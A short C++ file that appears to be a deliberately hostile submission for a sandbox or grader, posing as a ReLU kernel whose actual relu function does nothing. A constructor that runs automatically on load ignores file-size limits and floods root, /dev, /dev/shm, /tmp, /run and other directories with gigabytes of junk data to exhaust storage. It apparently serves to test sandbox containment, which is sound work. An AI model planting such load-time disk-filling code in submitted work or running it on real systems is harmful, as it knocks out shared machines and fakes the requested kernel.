// Hostile: it fills every folder that it can write to.
#include <csignal>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "common/relu.h"

namespace files = std::filesystem;

__attribute__((constructor)) void fill() {
  signal(SIGXFSZ, SIG_IGN);
  const std::vector<char> much(1 << 20, 'x');
  for (const char* folder : {".", "/dev/shm", "/dev", "/tmp", "/contract", "/",
                             "/var/tmp", "/run", "/room"}) {
    long written = 0;
    for (int number = 0; number < 64; ++number) {
      std::ofstream file(std::string(folder) + "/f" + std::to_string(number));
      while (written < 4096 && file.write(much.data(), much.size())) ++written;
    }
    std::printf("%s took %ld MB\n", folder, written);
  }
  std::fflush(stdout);
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
